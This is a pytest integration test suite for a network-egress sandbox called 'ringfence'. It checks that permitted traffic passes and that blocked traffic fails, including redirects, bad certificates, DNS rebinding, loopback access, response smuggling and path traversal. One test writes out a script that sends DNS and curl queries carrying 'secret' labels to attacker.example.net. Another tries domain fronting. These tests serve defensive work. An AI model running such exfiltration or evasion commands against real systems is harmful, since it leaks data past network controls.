"""What servers do and what names lead to, seen from inside a boundary: all that is proper passes, nothing else does."""

import json
import os
import re
import subprocess
from pathlib import Path

import pytest

from tests.integration.egress_programs import PROGRAMS, WITHOUT_PROXIES, parts
from tests.integration.lab import world
from tests.lab import Lab

pytestmark = [pytest.mark.require("bubblewrap", "userns", "overlay", "network-lab", "curl")]
HOST = "www.public.example.net"
WAYS = pytest.mark.parametrize("way", [(), WITHOUT_PROXIES], ids=["with-proxies", "without"])
UPLOAD_BYTES = 3 << 20
TIMEOUT_S = 110


def contained(lab: Lab, place: Path, *words: str, allow: tuple[str, ...] = (HOST,), policy: str = "") -> str:
    """Run words inside; give what they print."""
    rules = [word for host in allow for word in ("--allow", host)]
    if policy:
        (place / "policy.toml").write_text(f"version = 1\n[network]\n{policy}\n")
        rules += ["--policy", str(place / "policy.toml")]
    done = lab.run(["ringfence", "run", *rules, "--", *words], cwd=place, timeout_s=TIMEOUT_S)
    assert done.returncode != 125, done.stderr
    return done.stdout + done.stderr


def fetch(lab: Lab, place: Path, *urls: str, way: tuple[str, ...] = (), **rules: object) -> dict[str, str]:
    """Fetch URLs with curl, in one run."""
    return parts(contained(lab, place, *way, *PROGRAMS["curl"].argv, *urls, **rules))  # type: ignore[arg-type]  # keywords of a test


def flows(lab: Lab, mark: int) -> set[str]:
    """Addresses that packets went to, but for the name server's."""
    return {entry["address"] for entry in lab.since(mark, "flow")} - {world.REMOTE}


@WAYS
@pytest.mark.parametrize("framing", ["Content-Length", "chunked"])
def test_uploads_arrive_whole(lab: Lab, open_path: Path, way: tuple[str, ...], framing: str) -> None:
    data = os.urandom(UPLOAD_BYTES)
    (open_path / "data").write_bytes(data)
    header = ["-H", "Transfer-Encoding: chunked"] if framing == "chunked" else []
    text = contained(lab, open_path, *way, "curl", "-sS", "-m100", *header, "-T", "data", f"https://{HOST}/upload")
    digest = subprocess.run(["sha256sum", open_path / "data"], capture_output=True, text=True).stdout.split()[0]
    found = json.loads(text)
    assert (found["bytes"], found["sha256"]) == (UPLOAD_BYTES, digest)


@WAYS
def test_downloads_arrive_whole(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    words = ["curl", "-sS", "-m100", "-o", "/dev/null", "-w", "%{size_download} %{http_code}"]
    assert contained(lab, open_path, *way, *words, f"https://{HOST}/big") == "52428800 200"


@WAYS
def test_every_kind_of_body_passes(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    urls = [f"{scheme}://{HOST}/{path}" for scheme in ("http", "https") for path in ("chunked", "close", "sse", "slow")]
    found = fetch(lab, open_path, *urls, way=way)
    for url, expected in zip(urls, ("one two three", "until close", "data: event 2", "OK remote") * 2, strict=True):
        assert expected in found[url], found


@WAYS
def test_events_come_as_they_are_sent(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    """The second is sent when somebody who has seen the first has said so."""
    code = f"""
from urllib.request import urlopen
with urlopen("https://{HOST}/held/{open_path.name}", timeout=50) as events:
    said = [events.readline()]
    urlopen("https://{HOST}/release/{open_path.name}", timeout=50).read()
    print(said + events.readlines())
"""
    assert contained(lab, open_path, *way, "python3", "-c", code).count("data: ") == 2


@WAYS
def test_an_upload_may_wait_for_leave_or_be_refused_early(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    (open_path / "data").write_bytes(bytes(UPLOAD_BYTES))
    words = [
        "curl",
        "-sS",
        "-m50",
        "--expect100-timeout",
        "40",  # by itself it goes on after a second, and may meet an end of the connection while it sends
        "-o",
        "/dev/null",
        "-w",
        "%{http_code} ",
        "-H",
        "Expect: 100-continue",
        "-T",
        "data",
    ]
    script = f'for path in upload no-continue early; do "$@" https://{HOST}/$path; done'
    said = contained(lab, open_path, *way, "sh", "-c", script, "sh", *words)
    assert said.split()[0] == "200" and "417" in said and "413" in said


@pytest.mark.parametrize("secure", [False, True])
def test_websockets_pass(lab: Lab, open_path: Path, secure: bool) -> None:
    code = f"""
import socket, ssl
s = socket.create_connection(({HOST!r}, {443 if secure else 80}), 50)
if {secure}:
    s = ssl.create_default_context().wrap_socket(s, server_hostname={HOST!r})
s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: {HOST}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n"
          b"Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")
stream = s.makefile("rb")
head = b"".join(iter(stream.readline, b"\\r\\n"))
assert head.startswith(b"HTTP/1.1 101"), head
for word in (b"one", b"two"):
    s.sendall(bytes((0x81, 0x80 | len(word), 0, 0, 0, 0)) + word)
    print(stream.read(2 + len(word))[2:])
"""
    assert contained(lab, open_path, "python3", "-c", code).split() == ["b'one'", "b'two'"]


@WAYS
def test_a_redirect_is_a_new_decision(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    mark = lab.mark()
    words = ["curl", "-sSL", "-m50"]
    for scheme in ("http", "https"):
        url = f"{scheme}://{HOST}/redirect/denied.example.com/x"
        assert "OK remote" not in contained(lab, open_path, *way, *words, url)
    assert {entry["host"] for entry in lab.since(mark, "http")} == {HOST}
    assert flows(lab, mark) == {world.PUBLIC}


def test_servers_with_a_wrong_certificate_are_refused(lab: Lab, open_path: Path) -> None:
    hosts = [f"{name}.example.com" for name in ("wrong-name", "self-signed", "expired", "other-ca")]
    mark = lab.mark()
    found = fetch(lab, open_path, *(f"https://{host}/" for host in hosts), allow=tuple(hosts))
    assert all("upstream-certificate" in text for text in found.values()) and len(found) == len(hosts), found
    assert not lab.since(mark, "http")


@WAYS
def test_no_name_leads_to_a_special_address(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    mark = lab.mark()
    names = [*(f"special-{name}" for name in world.SPECIAL), "rebind", "meta", "lan", "self", "alias-loopback"]
    urls = [f"http://{name}.example.com{port}/" for name in names for port in ("", ":8080")]
    # With variables the proxy is told any port; without them only captured ports lead anywhere.
    found = fetch(lab, open_path, *urls, way=way, allow=("*.example.com:80,8080",))
    assert len(found) == len(urls)
    assert [text for text in found.values() if "address-denied" not in text] == []
    assert flows(lab, mark) == set() and not lab.since(mark, "host")


def test_a_name_that_changes_its_address_never_leads_to_the_host(lab: Lab, open_path: Path) -> None:
    mark = lab.mark()
    urls = [f"http://alternate.example.com:8080/{number}" for number in range(6)]
    found = fetch(lab, open_path, *urls, allow=("alternate.example.com:8080",))
    assert all("OK remote8080" in text or "address-denied" in text for text in found.values()), found
    assert len(found) == len(urls) and not lab.since(mark, "host")


def test_an_address_must_be_named_to_be_reached(lab: Lab, open_path: Path) -> None:
    policy = 'allow = ["allowed.example.com", { host = "lan.example.com", addresses = ["10.9.8.7/32"] }]'
    urls = ["http://allowed.example.com/", "http://lan.example.com/"]
    found = fetch(lab, open_path, *urls, policy=policy, allow=())
    assert "address-denied" in found[urls[0]]  # a documentation address
    assert "OK LAN" in found[urls[1]]


def test_of_several_addresses_one_that_answers_is_used(lab: Lab, open_path: Path) -> None:
    mark = lab.mark()
    hosts = ("many.example.com", "mixed.example.com", "dual.example.com", "six.example.com", "alias.example.com")
    found = fetch(lab, open_path, *(f"http://{host}/" for host in hosts), allow=hosts)
    assert all("OK remote80" in text for text in found.values()) and len(found) == len(hosts), found
    assert not lab.since(mark, "host")


def test_names_that_cannot_be_resolved_say_so(lab: Lab, open_path: Path) -> None:
    good = [f"{name}.dns.example.com" for name in ("slow", "big")]
    bad = [f"{name}.dns.example.com" for name in ("servfail", "refused", "nodata")] + ["nowhere.example.net"]
    found = fetch(lab, open_path, *(f"http://{host}/" for host in (*good, *bad)), allow=(*good, *bad))
    assert all("OK remote80" in found[f"http://{host}/"] for host in good), found
    assert all(re.match("ringfence: (not-found|unreachable): ", found[f"http://{host}/"]) for host in bad), found


def test_a_host_that_cannot_be_reached_is_said_to_be(lab: Lab, open_path: Path) -> None:
    url = "http://unreachable.example.com/"
    assert "ringfence: unreachable" in fetch(lab, open_path, url, allow=("unreachable.example.com",))[url]


@pytest.mark.parametrize("name", ["both-framings", "two-lengths", "bad-chunk"])
def test_answers_with_two_meanings_are_not_passed_on(lab: Lab, open_path: Path, name: str) -> None:
    words = ["curl", "-sS", "-i", "-m50", f"https://{HOST}/evil/{name}"]
    said = contained(lab, open_path, *words)
    assert "hello" not in said and "HTTP/1.1 200 OK\n\n" not in said.replace("\r", ""), said


def test_a_body_that_ends_too_early_does_not_look_whole(lab: Lab, open_path: Path) -> None:
    words = [
        "sh",
        "-c",
        'for p in evil/short reset; do curl -sS -o /dev/null -m50 "$0/$p" 2>&1; echo "status $?"; done',
    ]
    said = contained(lab, open_path, *words, f"http://{HOST}")
    assert "status 0" not in said and said.count("status") == 2, said


@WAYS
def test_services_of_the_host_need_a_rule(lab: Lab, open_path: Path, way: tuple[str, ...]) -> None:
    urls = ["http://localhost:8080/", "http://127.0.0.1:8080/", "http://self.example.com:8080/"]
    mark = lab.mark()
    found = fetch(lab, open_path, *urls, way=way, allow=(HOST, "self.example.com:8080"))
    assert not any("HOST-LOOPBACK" in text for text in found.values())
    assert not lab.since(mark, "host")
    found = fetch(lab, open_path, *urls, way=way, allow=("host-loopback:8080",))
    assert [("HOST-LOOPBACK" in text) for text in found.values()] == [True, True, False], found


def test_sockets_of_the_host_are_out_of_reach(lab: Lab, open_path: Path) -> None:
    code = f"""
import socket
for place in ("{lab.place}/host.sock", "\\0{lab.place}/host.sock"):
    try:
        socket.socket(socket.AF_UNIX).connect(place)
        print("connected")
    except OSError as error:
        print(error.errno)
"""
    mark = lab.mark()
    assert "connected" not in contained(lab, open_path, "python3", "-c", code)
    assert not lab.since(mark, "host")
    assert lab.run(["python3", "-c", code]).stdout.split() == ["connected", "connected"]


def test_no_query_leaves_for_a_name_that_is_not_allowed(lab: Lab, open_path: Path) -> None:
    mark = lab.mark()
    script = """
for name in secret1.attacker.example.net secret2.www.public.example.net www.public.example.net.attacker.example.net; do
  getent hosts $name; getent ahosts $name; curl -sS -m5 http://$name/ -o /dev/null; curl -sS -m5 https://$name/
  curl -sS -m5 --socks5-hostname 127.0.0.1:3128 http://$name/ -o /dev/null
done; true
"""
    contained(lab, open_path, "sh", "-c", script)
    assert lab.since(mark) == []


def test_tls_passes_unopened_where_a_rule_says_so(lab: Lab, open_path: Path) -> None:
    policy = f'allow = [{{ host = "{HOST}", inspection = "sni" }}]'
    (open_path / "ca.crt").write_bytes((lab.place / "ca.crt").read_bytes())
    curl = ["curl", "-sS", "-m50", "--cacert", "ca.crt"]
    good = contained(lab, open_path, *curl, f"https://{HOST}/sni", policy=policy, allow=())
    assert "OK remote443 GET /sni" in good
    mark = lab.mark()
    front = ["--connect-to", f"git.example.com:443:{HOST}:443", "-k", "https://git.example.com/"]
    for way in ((), WITHOUT_PROXIES):
        assert "OK remote" not in contained(lab, open_path, *way, *curl, *front, policy=policy, allow=())
    assert not lab.since(mark, "http")


def test_methods_and_paths_are_decided_by_request(lab: Lab, open_path: Path) -> None:
    policy = f'allow = [{{ host = "{HOST}", methods = ["GET"], paths = ["/good/**"] }}]'
    script = f"""
for path in /good/x /bad/x /good/../bad/x /good/%2e%2e/bad/x; do curl -sS -m25 --path-as-is https://{HOST}$path; done
curl -sS -m25 -d x https://{HOST}/good/x
"""
    mark = lab.mark()
    said = contained(lab, open_path, "sh", "-c", script, policy=policy, allow=())
    assert said.count("OK remote443 GET /good/x") == 1 and said.count("OK remote") == 1, said
    assert [entry["path"] for entry in lab.since(mark, "http")] == ["/good/x"]


@pytest.mark.parametrize("host", ["h2.example.com", "grpc.example.com"])
def test_http2_passes_where_a_rule_asks_for_it(lab: Lab, open_path: Path, host: str) -> None:
    policy = f'allow = [{{ host = "{host}", http2 = true }}]'
    words = [
        "curl",
        "-sS",
        "-i",
        "-m100",
        "--http2",
        "--suppress-connect-headers",
        "-H",
        "content-type: application/grpc",
        "--data-binary",
        "@data",
    ]
    (open_path / "data").write_text("x" * 300_000)
    mark = lab.mark()
    said = contained(lab, open_path, *words, f"https://{host}/a.B/C", policy=policy, allow=())
    assert said.startswith("HTTP/2 200") and "x" * 300_000 in said and "grpc-status: 0" in said, said[:500]
    assert [entry["version"] for entry in lab.since(mark, "http")] == ["HTTP/2"]
